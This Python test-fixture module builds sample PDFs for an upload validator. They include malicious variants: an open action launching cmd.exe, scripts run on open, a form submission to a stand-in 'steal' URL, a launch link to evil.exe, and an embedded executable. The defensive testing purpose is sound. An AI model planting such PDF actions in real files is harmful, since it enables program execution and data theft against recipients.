"""PDFs for tests, built with pypdf's writer: a plain one every upload test can use, and the malicious kinds
core.uploads must refuse (each built the way an attacker's tool would write it)."""
import io

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    w = PdfWriter()
    w.add_blank_page(595, 842)
    return w


def plain() -> bytes:
    """One blank A4 page, nothing else: what a scanner writes, minus the picture."""
    return _bytes(_writer())


PDF = plain()


def padded(size: int) -> bytes:
    """A plain PDF of about `size` bytes (the padding in its metadata), for the size limits."""
    w = _writer()
    w.add_metadata({"/Subject": "0" * size})
    return _bytes(w)


def _action(kind: str, **entries) -> DictionaryObject:
    a = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        a[NameObject(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return a


def javascript_in_names() -> bytes:
    """A document-level script: the catalog's /Names /JavaScript tree, as pypdf's (deprecated) add_js writes it."""
    w = _writer()
    script = w._add_object(_action("/JavaScript", JS="app.alert('x');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("mo-dau"), script])})
    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _bytes(w)


def open_action(kind: str, **entries) -> bytes:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = w._add_object(_action(kind, **entries))
    return _bytes(w)


def launch_on_open() -> bytes:
    return open_action("/Launch", F="cmd.exe")


def javascript_on_open() -> bytes:
    return open_action("/JavaScript", JS="app.launchURL('http://example.invalid');")


def submit_form_on_page_open() -> bytes:
    """/AA on a page (/O: when the page opens) submitting the form elsewhere."""
    w = _writer()
    aa = DictionaryObject({NameObject("/O"): _action("/SubmitForm", F="http://example.invalid/steal")})
    w.pages[0][NameObject("/AA")] = aa
    return _bytes(w)


def import_data_in_catalog_aa() -> bytes:
    """/AA on the catalog (/WC: will close) with an ImportData action chained after a harmless one."""
    w = _writer()
    first = _action("/Named", N=NameObject("/NextPage"))
    first[NameObject("/Next")] = _action("/ImportData", F="data.fdf")
    w._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): first})
    return _bytes(w)


def launch_link() -> bytes:
    """A link annotation that launches a program when clicked."""
    w = _writer()
    link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                             NameObject("/A"): _action("/Launch", F="evil.exe")})
    w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(link)])
    return _bytes(w)


def attachment() -> bytes:
    w = _writer()
    w.add_attachment("hoa-don.exe", b"MZ\x90\x00")
    return _bytes(w)


def annotation(subtype: str) -> bytes:
    w = _writer()
    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                              NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)})
    w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
    return _bytes(w)


def file_attachment_annotation() -> bytes:
    return annotation("/FileAttachment")


def rich_media_annotation() -> bytes:
    """Flash or video that plays inside the page (/RichMedia)."""
    return annotation("/RichMedia")


def xfa_form() -> bytes:
    w = _writer()
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                             NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})
    w._root_object[NameObject("/AcroForm")] = w._add_object(form)
    return _bytes(w)


def field_script() -> bytes:
    """A form field whose /AA runs a script on each keystroke."""
    w = _writer()
    fld = DictionaryObject({NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("ho_ten"),
                            NameObject("/AA"): DictionaryObject({NameObject("/K"): _action("/JavaScript", JS="1")})})
    form = DictionaryObject({NameObject("/Fields"): ArrayObject([w._add_object(fld)])})
    w._root_object[NameObject("/AcroForm")] = w._add_object(form)
    return _bytes(w)


def encrypted(user_password="mat-khau") -> bytes:
    w = _writer()
    w.encrypt(user_password=user_password, owner_password="chu-so-huu", algorithm="RC4-128")
    return _bytes(w)
